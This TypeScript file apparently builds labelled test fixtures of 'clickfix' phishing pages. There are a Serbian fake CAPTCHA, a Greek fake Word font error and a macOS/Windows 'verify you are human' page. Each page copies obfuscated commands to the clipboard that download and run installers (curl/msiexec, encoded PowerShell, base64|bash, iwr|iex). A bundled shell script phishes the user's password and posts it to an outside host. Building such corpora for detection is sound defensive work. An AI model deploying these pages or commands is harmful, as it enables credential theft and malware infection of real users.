import { type Entry } from '../entry.js';
import { fileRoute } from '../parts/e-bin.js';
import { b64, doc, psEnc, splitJs } from '../parts/xc-kit.js';

// Serbian Latin "verify you are not a robot" on a lookalike domain; cmd + curl + msiexec, command assembled from pieces.
const srCmd = 'cmd /c "curl -s -o %TEMP%\\prv.msi https://provera-robot.rs-cdn.org/f/prv.msi && msiexec /i %TEMP%\\prv.msi /qn" :: Verifikacija - nisam robot - ID 55120';
const srPage = doc({
  lang: 'sr-Latn',
  title: 'Provera – samo trenutak…',
  css: `body{background:#f2f3f5;font-family:Arial}.c{max-width:460px;margin:14vh auto;background:#fff;border-radius:10px;padding:26px;box-shadow:0 4px 14px rgba(0,0,0,.1)}
.ck{display:flex;align-items:center;gap:12px;border:1px solid #d5d5d5;border-radius:4px;padding:14px;background:#fafafa;cursor:pointer}.ck i{width:24px;height:24px;border:2px solid #aaa;border-radius:3px;display:inline-block}
.st{display:none;margin-top:14px;background:#eef4ff;border-radius:6px;padding:14px;line-height:1.9;font-size:15px}.st b{background:#dde6fb;padding:1px 6px;border-radius:3px}`,
  body: `<div class="c"><h2 style="margin-top:0">Potvrdite da niste robot</h2><p style="font-size:14px;color:#555">Da bismo zaštitili sajt od automatizovanih napada, potrebna je kratka provera.</p>
<div class="ck" id="ck"><i></i>Nisam robot</div>
<div class="st" id="st">Završite proveru u 3 koraka:<br>1. Pritisnite <b>Win</b> + <b>R</b><br>2. Pritisnite <b>Ctrl</b> + <b>V</b><br>3. Pritisnite <b>Enter</b><br><small>Videćete poruku „Verifikacija - nisam robot - ID 55120“.</small></div></div>
<script>var q=${splitJs(srCmd, 7)};document.getElementById('ck').onclick=function(){navigator.clipboard.writeText(q).finally(function(){document.getElementById('st').style.display='block'})};
setInterval(function(){if(document.hasFocus()===false)document.title='✔ Provera u toku…'},2000);</script>`,
});

// Greek "Word document can't be displayed" fix page: PowerShell (Admin) via Win+X, long base64 payload.
const grDocPayload = `$p="$env:LOCALAPPDATA\\Temp\\fnt";New-Item $p -ItemType Directory -Force|Out-Null;Invoke-WebRequest "https://docs-fix.gr-office365.com/fonts/KB5041580.zip" -OutFile "$p\\f.zip";Expand-Archive "$p\\f.zip" $p -Force;Start-Process "$p\\FontUpdate.exe" -WindowStyle Hidden`;
const grDocCmd = `powershell -NoProfile -ExecutionPolicy Bypass -EncodedCommand ${psEnc(grDocPayload)}`;
const grDocPage = doc({
  lang: 'el',
  title: 'Σύμβαση_Μίσθωσης_2025.docx – Word Online',
  font: '"Segoe UI",Arial,sans-serif',
  css: `.rb{background:#185abd;color:#fff;padding:10px 16px;font-size:14px}.pg{max-width:760px;margin:24px auto;background:#fff;height:520px;box-shadow:0 1px 4px rgba(0,0,0,.2);padding:40px;filter:blur(4px);color:#555}
.dlg{position:fixed;top:22%;left:50%;transform:translateX(-50%);width:520px;background:#fff;border:1px solid #c8c8c8;box-shadow:0 10px 40px rgba(0,0,0,.3);padding:22px}
.dlg h3{margin-top:0;color:#a4262c}.btn{background:#185abd;color:#fff;border:0;padding:9px 20px;cursor:pointer}#how{display:none;background:#f3f2f1;padding:14px;margin-top:12px;font-size:14px;line-height:1.8}`,
  body: `<div class="rb">Word · Σύμβαση_Μίσθωσης_2025.docx · Μόνο για ανάγνωση</div>
<div class="pg"><h2>ΙΔΙΩΤΙΚΟ ΣΥΜΦΩΝΗΤΙΚΟ ΜΙΣΘΩΣΗΣ ΚΑΤΟΙΚΙΑΣ</h2><p>Στην Αθήνα σήμερα, οι κάτωθι συμβαλλόμενοι…</p></div>
<div class="dlg"><h3>Σφάλμα: Η γραμματοσειρά «Calibri Greek» δεν βρέθηκε</h3><p>Το έγγραφο δεν μπορεί να εμφανιστεί σωστά επειδή λείπει το πακέτο γραμματοσειρών για ελληνικούς χαρακτήρες. Για να το εγκαταστήσετε χειροκίνητα:</p>
<button class="btn" id="fx">Πώς να το διορθώσετε</button>
<div id="how">1. Πατήστε <b>Win + X</b> και επιλέξτε <b>Windows PowerShell (Διαχειριστής)</b> ή «Τερματικό (Διαχειριστής)»<br>2. Κάντε δεξί κλικ μέσα στο παράθυρο για επικόλληση (ο κώδικας έχει αντιγραφεί)<br>3. Πατήστε <b>Enter</b> και ανανεώστε τη σελίδα</div></div>
<script>document.getElementById('fx').onclick=function(){var c=atob('${b64(grDocCmd)}');navigator.clipboard.writeText(c);document.getElementById('how').style.display='block'}</script>`,
});

// English macOS variant: "verify you are human" telling Mac users to paste into Terminal; base64 | bash to a stealer script.
const macInner = `curl -fsSL https://cdn-verify.humancheck-app.com/mac/install.sh -o /tmp/.hc && chmod +x /tmp/.hc && /tmp/.hc`;
const macCmd = `echo "${b64(macInner)}" | base64 -d | bash`;
const macScript = `#!/bin/bash
# Installer
osascript -e 'display dialog "To complete verification, enter your password:" default answer "" with hidden answer with title "System Preferences"' > /tmp/.p 2>&1
curl -s -X POST -F "p=@/tmp/.p" -F "h=$(hostname)" https://cdn-verify.humancheck-app.com/mac/c
curl -s https://cdn-verify.humancheck-app.com/mac/bin -o /tmp/.helper && chmod +x /tmp/.helper && /tmp/.helper &`;
const macPage = doc({
  lang: 'en',
  title: 'Just a moment...',
  css: `body{background:#fff;font-family:-apple-system,system-ui,Arial}.w{max-width:620px;margin:14vh auto;padding:0 20px}.bx{border:1px solid #ddd;border-radius:6px;padding:18px;margin-top:16px}
code{display:block;background:#111;color:#6f6;padding:10px;border-radius:4px;font-size:12px;word-break:break-all}.b{background:#f48120;color:#fff;border:0;padding:10px 20px;border-radius:4px;cursor:pointer}.os{display:none}`,
  body: `<div class="w"><h1 style="font-weight:500">secure-docs-portal.com</h1><p>Verify you are human by completing the action below.</p>
<div class="bx"><div class="os" id="mac"><b>macOS verification</b><ol><li>Press <b>⌘ Command + Space</b>, type <b>Terminal</b> and press Return</li><li>Paste the verification code with <b>⌘ + V</b></li><li>Press <b>Return</b></li></ol><button class="b" id="cp">Copy verification code</button></div>
<div class="os" id="win"><b>Windows verification</b><p>Press Win + R, then Ctrl + V, then Enter.</p><button class="b" id="cpw">Copy verification code</button></div></div>
<p style="font-size:12px;color:#999;margin-top:24px">Ray ID: 8e1f4c2a9b7d3310 · Performance &amp; security</p></div>
<script>
var mac=/Macintosh|Mac OS X/.test(navigator.userAgent);document.getElementById(mac?'mac':'win').style.display='block';
var c=${JSON.stringify(macCmd)},w=${JSON.stringify(`powershell -c "iwr https://cdn-verify.humancheck-app.com/win/v.ps1 -UseB|iex" # human check 3310`)};
document.getElementById('cp').onclick=function(){navigator.clipboard.writeText(c);this.textContent='Copied ✓'};document.getElementById('cpw').onclick=function(){navigator.clipboard.writeText(w);this.textContent='Copied ✓'};
</script>`,
});

export const entries: Entry[] = [
  {
    id: 'xc-clickfix-captcha-sr-latin',
    label: 'clickfix',
    kind: 'clickfix-captcha-msiexec',
    url: 'https://provera-robot.rs-cdn.org/verifikacija?ref=oglasi',
    body: srPage,
  },
  {
    id: 'xc-clickfix-doc-viewer-gr',
    label: 'clickfix',
    kind: 'clickfix-fake-document-error',
    url: 'https://docs-fix.gr-office365.com/w/Symvasi_Misthosis_2025.docx',
    body: grDocPage,
  },
  {
    id: 'xc-clickfix-mac-terminal-en',
    label: 'clickfix',
    kind: 'clickfix-macos-terminal',
    url: 'https://secure-docs-portal.com/cdn-cgi/challenge?doc=4471',
    body: macPage,
    routes: { 'cdn-verify.humancheck-app.com/mac/install.sh': fileRoute(macScript, 'text/x-shellscript') },
  },
];
